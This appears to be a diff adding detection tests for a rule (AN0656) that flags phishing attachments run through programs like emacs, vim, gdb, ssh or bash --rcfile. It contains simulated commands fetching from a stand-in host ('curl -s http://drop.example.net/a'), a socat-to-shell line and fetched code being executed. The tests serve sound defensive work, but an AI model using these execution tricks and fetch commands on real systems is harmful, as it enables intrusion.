@@ -1,0 +1,176 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import type { Process } from './an0656-phishing-attachment-executed/audit-records.test-support.ts';
+import { HostLog, MINUTE, SECOND } from './an0656-phishing-attachment-executed/host-log.test-support.ts';
+import {
+  atMostAt,
+  factorsOf,
+  firesAt,
+  scanLog,
+  storyOf,
+  valuesOf,
+} from './an0656-phishing-attachment-executed/stories.test-support.ts';
+
+/** Content of a message is run by programs that are no interpreters by trade; and is only looked at with them. */
+const OUT = '203.0.113.66';
+const FILE = '/home/clerk/Documents/notes';
+const FETCH = 'curl -s http://drop.example.net/a';
+
+/** A message whose attachment Thunderbird saves to FILE; a shell of its reader. */
+function saved(files = true): { log: HostLog; shell: Process } {
+  const log = new HostLog({ files });
+  const message = log.deliver();
+  log.wait(MINUTE);
+  const client = log.desktop('clerk').run('/usr/lib/thunderbird/thunderbird').read(message.path);
+  client.write(`${FILE}.part`).rename(`${FILE}.part`, FILE);
+  log.wait(MINUTE);
+  return { log, shell: log.shell('clerk') };
+}
+const fetches = (by: Process, line = FETCH): Process =>
+  by.run(['/bin/sh', '-c', line]).run(['/usr/bin/curl', '-s', 'http://drop.example.net/a']).connect(OUT, 80);
+
+const GIVEN = [
+  `/usr/bin/emacs --batch --script ${FILE}`,
+  `/usr/bin/vim.basic -es -S ${FILE} -c q`,
+  `/usr/lib/R/bin/exec/R --no-echo --file=${FILE}`,
+  `/usr/bin/gdb -batch -x ${FILE}`,
+  `/usr/bin/sqlite3 -init ${FILE} x.db`,
+  `/usr/bin/ssh -F ${FILE} host`,
+  `/usr/bin/sed -n -f ${FILE} text`,
+  `/usr/bin/tmux -f ${FILE} new`,
+  `/usr/bin/python3 /usr/bin/ansible-playbook -c local ${FILE}`,
+  `/usr/bin/node -r ${FILE} -e 1`,
+  `/usr/bin/guile -l ${FILE} -c 1`,
+  `/bin/bash --rcfile ${FILE} -i`,
+];
+for (const command of GIVEN) {
+  test(`${command}: it runs the file, which reaches out`, async () => {
+    const { log, shell } = saved();
+    fetches(shell.run(command).read(FILE));
+    const alert = firesAt(await scanLog(log), 'AN0656', 'high');
+    assert.deepEqual(valuesOf(alert, 'file'), [FILE]);
+  });
+  test(`${command}: and where only programs are recorded`, async () => {
+    const log = new HostLog({ files: false, network: false });
+    log.deliver();
+    log.desktop('clerk').run('/usr/lib/thunderbird/thunderbird');
+    log.wait(MINUTE);
+    log.shell('clerk').run(command.replaceAll('Documents', 'Downloads'));
+    firesAt(await scanLog(log), 'AN0656', 'low');
+  });
+}
+
+const LOOKS = [
+  `/usr/bin/vim.basic ${FILE}`,
+  `/usr/bin/emacs ${FILE}`,
+  `/usr/bin/gdb --args /usr/bin/wc -x ${FILE}`,
+  `/usr/bin/sed -n 1p ${FILE}`,
+  `/usr/bin/node own.js -r ${FILE}`,
+  `/usr/bin/sqlite3 ${FILE} .tables`,
+];
+for (const command of LOOKS)
+  test(`${command}: the file is only looked at`, async () => {
+    const { log, shell } = saved();
+    shell.run(command).read(FILE);
+    assert.deepEqual(await scanLog(log), []);
+  });
+
+const READER = `/usr/bin/any-reader -s ${FILE}`;
+test('a program that just read it starts a shell with an order of nobody, which reaches out: medium, and no more', async () => {
+  const { log, shell } = saved();
+  fetches(shell.run(READER).read(FILE));
+  const alert = storyOf(await scanLog(log), 'AN0656');
+  assert.equal(alert.severity, 'medium');
+  assert.ok(factorsOf(alert).includes('that the content ordered the command is a guess'));
+});
+
+test('and one that gets it on its input, and hands that to a shell', async () => {
+  const { log, shell } = saved();
+  shell.run(`/usr/bin/socat FILE:${FILE} EXEC:sh`).read(FILE).run('/bin/sh').run('/usr/bin/curl -s x').connect(OUT, 80);
+  assert.equal(storyOf(await scanLog(log), 'AN0656').severity, 'medium');
+});
+
+test('what it fetched is run: more than a guess', async () => {
+  const { log, shell } = saved();
+  const line = fetches(shell.run(READER).read(FILE)).write('/home/clerk/.cache/a');
+  line.fork().exec('/home/clerk/.cache/a').connect(OUT, 443);
+  firesAt(await scanLog(log), 'AN0656', 'high');
+});
+
+/** What the program that read it does, and the most that may be said. */
+const HELPERS: Readonly<
+  Record<string, readonly ['nothing' | 'informational', (shell: Process, log: HostLog) => void]>
+> = {
+  'a shell that reaches nothing': [
+    'informational',
+    shell => void shell.run(READER).read(FILE).run(['/bin/sh', '-c', 'stty']),
+  ],
+  'an installed program that connects': [
+    'informational',
+    shell => {
+      shell.run('/usr/bin/firefox');
+      shell.run(READER).read(FILE).run(['/bin/sh', '-c', 'firefox x']).run('/usr/bin/firefox x').connect(OUT, 443);
+    },
+  ],
+  'a shell, when a hand may have ordered it': [
+    'nothing',
+    (shell, log) => {
+      const reader = shell.run(READER).read(FILE);
+      log.wait(3 * SECOND);
+      fetches(reader);
+    },
+  ],
+  'what its own words order': [
+    'nothing',
+    shell => void fetches(shell.run(['/usr/bin/any-reader', '-a', FILE, 'sh', '-c', 'curl {}']).read(FILE)),
+  ],
+  'a shell for somebody to type in': [
+    'nothing',
+    shell => void shell.run(READER).read(FILE).run('/bin/bash --norc -i').run('/usr/bin/curl -s x').connect(OUT, 80),
+  ],
+  'no shell': ['nothing', shell => void shell.run(READER).read(FILE).run('/usr/bin/any-helper x').connect(OUT, 80)],
+  'a script of its own': [
+    'nothing',
+    shell => void fetches(shell.run(READER).read(FILE), '').exec('/bin/sh /usr/lib/x'),
+  ],
+};
+for (const [does, [most, act]] of Object.entries(HELPERS))
+  test(`a program that read it starts ${does}: ${most}`, async () => {
+    const { log, shell } = saved();
+    act(shell, log);
+    const alerts = await scanLog(log);
+    if (most === 'nothing')
+      assert.deepEqual(
+        alerts.map(each => each.title),
+        [],
+      );
+    else atMostAt(alerts, 'informational');
+  });
+
+const OTHERS: Readonly<Record<string, string>> = {
+  'a program of its own user': `/home/clerk/bin/report ${FILE}`,
+  'a program that no package put there': `/usr/local/bin/report ${FILE}`,
+  'an archiver': `/usr/bin/tar xf ${FILE}`,
+  'a transfer tool': `/usr/bin/scp ${FILE} host:`,
+  'a program given by other words': `/usr/bin/gdb -x own ${FILE}`,
+  'a script of an interpreter': `/usr/bin/python3 own.py ${FILE}`,
+  'a program of the command line': `/usr/bin/python3 -c x ${FILE}`,
+};
+for (const [who, command] of Object.entries(OTHERS))
+  test(`${who} reads it and starts a shell that reaches out: its own work`, async () => {
+    const { log, shell } = saved();
+    fetches(shell.run(command).read(FILE));
+    assert.deepEqual(
+      (await scanLog(log)).map(each => each.title),
+      [],
+    );
+  });
+
+test('what a process starts between its fork and its own program is no way out', async () => {
+  const { log, shell } = saved();
+  const child = shell.run(`/usr/bin/expect ${FILE}`).read(FILE).fork();
+  child.run(['/bin/sh', '-c', 'stty sane']).run('/bin/stty sane');
+  child.exec(`/usr/bin/curl -s http://drop.example.net/a`).connect(OUT, 80);
+  const alert = firesAt(await scanLog(log), 'AN0656', 'high');
+  assert.ok(factorsOf(alert).includes('outbound network afterwards'));
+});
